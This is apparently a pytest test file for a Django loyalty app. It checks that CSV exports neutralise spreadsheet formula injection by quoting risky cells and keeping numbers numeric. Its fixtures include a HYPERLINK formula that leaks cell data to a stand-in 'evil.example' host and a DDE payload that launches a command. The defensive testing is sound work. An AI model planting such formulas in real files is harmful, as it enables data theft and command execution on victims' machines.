"""Every CSV the app writes for people is safe to open in a spreadsheet: text that a
spreadsheet would run as a formula is quoted, numbers stay numbers."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone

from loyalty.csvfiles import csv_cell, csv_text
from loyalty.models import BulkJob, LedgerEntry
from loyalty.services.bulk import bulk_job_create
from rewards.services.admin_ops import IssueReport, RowOutcome
from tests.backoffice.conftest import entry_at
from tests.factories import MemberFactory
from tests.rewards.factories import CouponFactory

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&B2,"Click")'
DDE = "=cmd|' /C calc'!A0"


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def streamed(response) -> str:
    return b"".join(response.streaming_content).decode()


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Sorry for the delay", "Sorry for the delay"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (True, "True"),
    ],
)
def test_text_that_a_spreadsheet_would_run_is_quoted(value, cell):
    assert csv_cell(value) == cell


@pytest.mark.parametrize("number", [-500, 0, 120, Decimal("-12.50"), -1.5])
def test_numbers_are_written_as_numbers_even_when_negative(number):
    assert csv_cell(number) == number
    assert parse(csv_text([[number]])) == [[str(number)]]


@pytest.mark.django_db
def test_exports_quote_formulas_and_keep_negative_points_numbers(shop, staff_client):
    member = MemberFactory(program=shop, external_id="@evil", name=HYPERLINK)
    entry_at(member, LedgerEntry.Kind.DEDUCT, -500, timezone.now())
    LedgerEntry.objects.create(
        program_id=member.program_id,
        member=member,
        kind=LedgerEntry.Kind.GRANT,
        points=3,
        balance_after=10_003,
        reason=DDE,
        idempotency_key="csv-injection",
    )
    CouponFactory(program=shop, member=member, reason="+cmd")
    _user, client = staff_client(shop, "viewer")

    members = parse(streamed(client.get(reverse("backoffice:export", args=["members"]))))
    ledger = parse(streamed(client.get(reverse("backoffice:export", args=["ledger"]))))
    coupons = parse(streamed(client.get(reverse("backoffice:export", args=["coupons"]))))

    row = dict(zip(members[0], members[1], strict=True))
    assert (row["external_id"], row["name"]) == ("'@evil", "'" + HYPERLINK)
    by_reason = {line[6]: line for line in ledger[1:]}
    assert by_reason["'" + DDE][4] == "3"
    deduction = next(line for line in ledger[1:] if line[3] == LedgerEntry.Kind.DEDUCT)
    assert int(deduction[4]) == -500  # a number a spreadsheet adds up, not '-500
    assert all(line[2] == "'@evil" for line in ledger[1:])
    coupon = dict(zip(coupons[0], coupons[1], strict=True))
    assert (coupon["member"], coupon["reason"]) == ("'@evil", "'+cmd")


@pytest.mark.django_db
def test_bulk_job_report_quotes_the_uploaded_cells(shop, staff_client):
    user, client = staff_client(shop)
    job = bulk_job_create(
        program=shop,
        kind=BulkJob.Kind.POINTS,
        data=b'external_id,points,reason\n"=1+2",5,ok\n',
        params={"reason": ""},
        created_by=user,
    )

    report = parse(streamed(client.get(reverse("backoffice:bulk-job-report", args=[job.pk]))))

    assert report[0] == ["line", "external_id", "status", "code", "detail"]
    assert report[1][:2] == ["2", "'=1+2"]


def test_coupon_batch_report_quotes_the_uploaded_cells():
    report = IssueReport(
        key="k",
        rows=[RowOutcome(2, "-2+3", "failed", "member_not_found", "No member '-2+3'")],
        program_id=1,
        reason="r",
        source="compensation",
        terms="",
        by="",
        at="",
    )

    assert parse(report.csv())[1] == [
        "2", "'-2+3", "failed", "member_not_found", "No member '-2+3'"
    ]  # fmt: skip


def test_the_app_writes_csv_through_one_writer():
    root = Path(__file__).resolve().parents[2]
    writers = [
        path.relative_to(root).as_posix()
        for app in ("loyalty", "rewards", "notifications", "config")
        for path in (root / app).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert writers == ["loyalty/csvfiles.py"]
